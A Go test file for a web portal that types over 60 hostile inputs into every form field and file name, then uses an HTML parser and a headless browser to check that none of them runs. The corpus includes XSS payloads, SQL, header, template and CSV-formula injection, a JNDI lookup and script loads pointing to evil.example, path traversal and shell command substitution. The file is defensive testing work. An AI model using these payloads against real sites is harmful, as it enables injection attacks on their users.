package main

import (
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/yagona/portal/internal/browsertest"
	"github.com/yagona/portal/internal/server/servertest"
)

// mark stands in what is typed to do harm: an element or attribute of that name was not only shown.
const mark = "h4rm"

// corpus is what is typed into every field of every form: markup, attributes and addresses that run, in the forms that slip
// through filters; what other languages execute; what breaks lines, text and sums.
var corpus = []string{
	`<h4rm onclick=alert(1)>x</h4rm><script>h4rm()</script>`,
	`"><img src=x onerror=h4rm()>`,
	`' onmouseover='h4rm()' x='`,
	`</textarea></title></script><svg/onload=h4rm()>`,
	`javascript:h4rm()`,
	`{{7*7}}${7*7}<%= 7*7 %>{{h4rm}}#{7*7}`,
	`'; DROP TABLE applications; --h4rm`,
	"ism\r\nSet-Cookie: h4rm=1\r\n\r\n<h4rm>",
	"nol\x00nol <h4rm>",
	"\u202eteskari\u2066 <h4rm>",
	"\xed\xa0\x80\xff\xfe <h4rm>",
	"👩‍👩‍👧‍👦🇺🇿 <h4rm>",
	"=HYPERLINK(\"http://evil.example\";\"h4rm\")",
	strings.Repeat("ў", 10_000) + "<h4rm>",
	`<script>h4rm()</script>`, `<SCRIPT SRC=//evil.example/h4rm.js></SCRIPT>`, `<scr<script>ipt>h4rm()</scr</script>ipt>`, `<script/x>h4rm()</script>`,
	`<svg><script>h4rm()</script></svg>`, `<svg><animate onbegin=h4rm() attributeName=x dur=1s>`, `<svg><set onbegin=h4rm() attributename=x>`, `<svg><a xlink:href="javascript:h4rm()"><text y=1em>x</text></a></svg>`,
	`<math><mtext><h4rm><mglyph><style><img src onerror=h4rm()>`, `<math href="javascript:h4rm()">x</math>`, `<img src=1 oNeRrOr=h4rm()>`, `<img/src/onerror=h4rm()>`, `<img src="x:h4rm" onerror="eval(src)">`,
	`<body onload=h4rm()>`, `<body onpageshow=h4rm()>`, `<input autofocus onfocus=h4rm()>`, `<select autofocus onfocus=h4rm()>`, `<textarea autofocus onfocus=h4rm()>`, `<details open ontoggle=h4rm()>`,
	`<video><source onerror=h4rm()>`, `<audio src=x onerror=h4rm()>`, `<marquee onstart=h4rm()>`, `<iframe src="javascript:h4rm()">`, `<iframe srcdoc="<script>h4rm()</script>">`, `<object data="javascript:h4rm()">`, `<embed src="javascript:h4rm()">`,
	`<a href="javascript:h4rm()">x</a>`, `<a href="&#106;avascript:h4rm()">x</a>`, "<a href=\"java\tscript:h4rm()\">x</a>", `<form action="javascript:h4rm()"><button>x</button></form>`, `<button formaction="javascript:h4rm()">x</button>`, `<isindex type=image src=1 onerror=h4rm()>`,
	`<base href="//evil.example/h4rm/">`, `<meta http-equiv=refresh content="0;url=javascript:h4rm()">`, `<link rel=stylesheet href=//evil.example/h4rm.css>`, `<style>@import "//evil.example/h4rm.css";*{background:url(//evil.example/h4rm)}</style>`, `<div style="background:url(javascript:h4rm())">`,
	`<!--><img src=x onerror=h4rm()>-->`, `<![CDATA[><img src=x onerror=h4rm()>]]>`, `<template><script>h4rm()</script></template>`, `<noscript><p title="</noscript><img src=x onerror=h4rm()>">`, `<x contenteditable onblur=h4rm()>x`,
	`"-h4rm()-"`, `';h4rm()//`, `\x3cimg src=x onerror=h4rm()\x3e`, `%3Cscript%3Eh4rm()%3C/script%3E`, `&lt;script&gt;h4rm()&lt;/script&gt;`, `+ADw-script+AD4-h4rm()+ADw-/script+AD4-`,
	`data:text/html,<script>h4rm()</script>`, `@SUM(1+1)*cmd|' /C h4rm'!A0`, `../../../../etc/passwd h4rm`, `${jndi:ldap://evil.example/h4rm}`, `$(touch h4rm)`, "`touch h4rm`",
}

// harmed types into every field of every form that the pages have what is meant to do harm, and names files so. No answer is a
// fault of ours, and all of it is shown as text; then a real browser opens what now shows it, and hears nothing run.
func (w *realm) harmed(t *testing.T) {
	t.Helper()
	w.on(t)
	require.GreaterOrEqual(t, len(corpus), 60)
	var wrong []string
	fields := 0
	answer := func(s sheet, what string) {
		page := w.as(s.who.subject).Do(s.Request(""))
		if page.Status >= http.StatusInternalServerError {
			wrong = append(wrong, fmt.Sprintf("%s as %s: %s: %d", s.key, s.who.subject, what, page.Status))
		}
		for _, alive := range living(page) {
			wrong = append(wrong, fmt.Sprintf("%s as %s: %s: %s", s.key, s.who.subject, what, alive))
		}
	}
	known := w.forms(func(s sheet) bool {
		start := url.Values{}
		for name, values := range s.Values {
			start[name] = slices.Clone(values)
		}
		fields += len(s.text)
		files := s.uploads
		for i, attack := range corpus {
			for _, name := range s.text {
				s.Set(name, attack)
			}
			if len(files) > 0 {
				s.Detach()
			}
			for _, name := range files {
				s.Attach(name, attack+".pdf", []byte(paper))
			}
			if len(s.text) > 0 {
				answer(s, fmt.Sprintf("all = %.20q", attack))
			}
			for name := range s.Values { // and one field alone, so that another one's mistake doesn't hide it; hidden ones as well
				s.Values[name] = slices.Clone(start[name])
			}
			names := slices.Sorted(maps.Keys(start))
			if len(names) == 0 {
				continue
			}
			name := names[i%len(names)]
			s.Set(name, attack)
			answer(s, fmt.Sprintf("%s = %.20q", name, attack))
			s.Values[name] = slices.Clone(start[name])
		}
		return true
	})
	require.Greater(t, len(known), 40)
	require.Greater(t, fields, 60)

	shown := map[string]map[string]bool{} // by persona: pages that show what was typed
	for _, x := range w.sights(false) {
		page := w.send(w.as(x.who.subject), http.MethodGet, x.path, "")
		for _, alive := range living(page) {
			wrong = append(wrong, x.of(page)+": "+alive)
		}
		if strings.Contains(page.Body, mark) && strings.HasPrefix(page.Header.Get("Content-Type"), "text/html") && x.who.role != "" {
			if shown[x.who.subject] == nil {
				shown[x.who.subject] = map[string]bool{}
			}
			shown[x.who.subject][x.path] = true
		}
	}
	slices.Sort(wrong)
	require.Empty(t, slices.Compact(wrong), strings.Join(wrong, "\n"))
	require.NotEmpty(t, shown, "something of it is shown somewhere")
	w.exec(`DELETE FROM factor_tries`) // it was typed as codes too, oftener than officials may who now come in
	for subject, paths := range shown {
		t.Run(subject, func(t *testing.T) {
			b := browsertest.New(t, w.origin, 1280, 800)
			b.SignIn(subject)
			for path := range paths {
				b.Goto(path)
				require.Equal(t, http.StatusOK, b.Status(), path)
				require.Zero(t, browsertest.Value[int](b, `document.querySelectorAll("`+mark+`").length`), path)
			}
			b.Calm() // nothing ran, and the policy had nothing to refuse
		})
	}
}

// living names what of the harm is more than text on a page.
func living(page *servertest.Page) (alive []string) {
	if page.Header.Get("Set-Cookie") != "" && strings.Contains(page.Header.Get("Set-Cookie"), mark) {
		alive = append(alive, "a header of its own")
	}
	if !strings.HasPrefix(page.Header.Get("Content-Type"), "text/html") {
		return alive
	}
	doc, err := html.Parse(strings.NewReader(page.Body))
	if err != nil {
		return append(alive, err.Error())
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if n.Data == mark || n.Data == "script" && n.FirstChild != nil && strings.Contains(n.FirstChild.Data, mark) {
			alive = append(alive, "element "+n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || strings.Contains(a.Key, mark) {
				alive = append(alive, n.Data+" with "+a.Key)
			}
			if (a.Key == "href" || a.Key == "action" || a.Key == "src" || a.Key == "formaction") && strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
				alive = append(alive, n.Data+" that leads to "+a.Val)
			}
		}
	}
	return alive
}
